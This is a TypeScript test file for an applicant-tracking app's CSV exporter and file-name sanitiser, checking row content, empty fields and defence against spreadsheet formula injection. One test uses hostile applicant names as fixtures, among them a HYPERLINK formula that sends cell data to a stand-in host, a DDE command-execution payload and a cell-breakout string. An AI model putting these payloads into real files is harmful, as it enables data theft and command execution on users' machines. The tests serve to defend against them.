import { expect, test } from "vitest";
import { analysedApplicant } from "../testing/applicants.ts";
import { type FileWords, titleInFileName, toApplicantsCsv, toLocalDay } from "./applicants-file.ts";

const words: FileWords = {
  decimal: ".",
  columns: ["Name", "Email"],
  stage: (stage) => `stage ${stage}`,
  remarks: ({ candidate, analysisStatus }) => [
    ...(candidate.unavailable ? ["No longer on the site"] : []),
    ...(analysisStatus === "failed" ? ["Analysis failed"] : []),
  ],
  address: ({ _id }) => `https://jobs.example/applicants/job?applicationId=${_id}`,
};
/** What the file says of them, in lines without the byte order mark, the columns and the last line's end. */
function linesOf(...people: Parameters<typeof toApplicantsCsv>[0]): string[] {
  return toApplicantsCsv(people, words).split("\r\n").slice(1, -1);
}

test("one line for each, with all that the app shows of them", () => {
  const applicant = analysedApplicant("Nimali Perera", {
    _id: "a1",
    stage: "shortlisted",
    createdAt: new Date(2026, 10, 2, 9, 5).toISOString(),
    stageChangedAt: new Date(2026, 10, 20, 14, 30).toISOString(),
    analysis: {
      overallScore: 87,
      candidateYears: 4.26,
      matchingSkills: ["Java", "Kotlin"],
      missingSkills: ["Go"],
      matchingNiceToHaveSkills: ["Dutch"],
      extractedSkills: ["Java", "Kotlin", "SQL"],
    },
  });
  expect(toApplicantsCsv([applicant], words)).toMatch(/^\uFEFFName,Email\r\n/);
  expect(linesOf(applicant)).toEqual([
    'Nimali Perera,Nimali@example.com,stage shortlisted,87,4.3,Senior,"Java; Kotlin",Go,Dutch,"Java; Kotlin; SQL",' +
      "2026-11-02 09:05,2026-11-20 14:30,,https://jobs.example/applicants/job?applicationId=a1",
  ]);
});

test("what is not known is left empty, and said in the remarks", () => {
  const gone = analysedApplicant("Ruwan", { _id: "a2", candidate: { unavailable: true } });
  const applied = toLocalDay(new Date(gone.createdAt));
  expect(linesOf({ ...gone, analysisStatus: "failed", analysis: { error: "No words." } })).toEqual([
    expect.stringMatching(
      new RegExp(
        `^Ruwan,Ruwan@example.com,stage received,,,,,,,,${applied} \\d\\d:\\d\\d,,"No longer on the site; Analysis failed",`,
      ),
    ),
  ]);
});

test("no name is a formula, and none breaks out of its cell", () => {
  const hostile = [
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    'Anna","=1+1',
    "Anna\r\n=cmd|'/C calc'!A0",
    "@ruwan",
  ].map((name) => analysedApplicant(name, { candidate: { email: "+x@example.com" } }));
  const file = toApplicantsCsv(hostile, words);
  expect(file).toContain('\r\n"\'=HYPERLINK(""https://evil.example?""&A1,""Click"")",\'+x@example.com,');
  expect(file).toContain('\r\n"Anna"",""=1+1",');
  expect(file).toContain("\r\n\"Anna\r\n'=cmd|'/C calc'!A0\",");
  expect(file).toContain("\r\n'@ruwan,");
});

test.each([
  ["Night Baker (m/f/d)", "Night Baker (m-f-d)"],
  ['C:\\jobs\\"Senior" <dev>?', "C--jobs--Senior- -dev--"],
  ["Baker\u202Evsc.exe\u0007", "Baker vsc.exe"],
  ["ශ්‍රී ලංකා බේකරි", "ශ්‍රී ලංකා බේකරි"],
  ["x".repeat(200), "x".repeat(60)],
])("%j in the name of a file", (title, part) => {
  expect(titleInFileName(title)).toBe(part);
});
